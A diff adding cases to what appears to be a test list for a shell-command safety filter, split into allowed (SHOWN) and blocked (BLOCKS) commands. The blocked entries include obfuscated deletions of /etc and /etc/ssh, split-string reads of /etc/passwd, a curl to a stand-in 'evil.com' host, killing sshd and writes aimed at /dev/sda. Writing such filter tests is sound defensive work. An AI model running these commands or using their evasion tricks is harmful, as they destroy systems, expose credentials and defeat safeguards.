@@ -87,6 +87,14 @@ SHOWN = [
     "rpm -r build --initdb",
     "system=$(uname -s | tr A-Z a-z); ./tool-$system run",
     "eval 'out=build'; rm -rf $out",
+    "wget https://github.com/$1/tool-$1.tar.gz",
+    "ls -L -l -d /",
+    "BASH_ENV=/dev/null",
+    "invoke-rc.d --quiet tool status",
+    "rm -rf /run/tool",
+    "./build/tool-server &\nkillall tool-server",
+    "mv confcache /dev/null$$",
+    "sh=$(echo a | tr A-Z a-z); echo='print -r --'; [ -n \"$x\" ] && echo='printf %s'; $echo 'exit 0' | sh",
 ]
 BLOCKS = [
     "sudo -u postgres sh",
@@ -198,6 +206,18 @@ BLOCKS = [
     "eval 'f() { rm -rf $1; }'; f /etc",
     "eval 'cd /etc'; rm -rf *",
     "echo 'x=/etc' > conf; . ./conf; rm -rf $x",
+    "a=/; b=etc; rm -rf $a/$b/ssh",
+    "a=/etc; b=pass; cat $a/$b-wd /$a/${b}wd",
+    "a=/etc; b=passwd; cat $a/$b.bak",
+    "h=evil; d=com; curl http://$h.$d/x",
+    "ls -d /etc/*",
+    "ls -L /etc",
+    "BASH_ENV=./x.sh make",
+    "invoke-rc.d tool stop",
+    "rm -rf /run/docker",
+    "/usr/sbin/sshd -t\nkillall sshd",
+    "killall tool-server",
+    "echo x > /dev/null/../sda",
 ]
 PYTHON_BLOCKS = [
     "import runpy\nrunpy.run_path('/opt/x.py')",
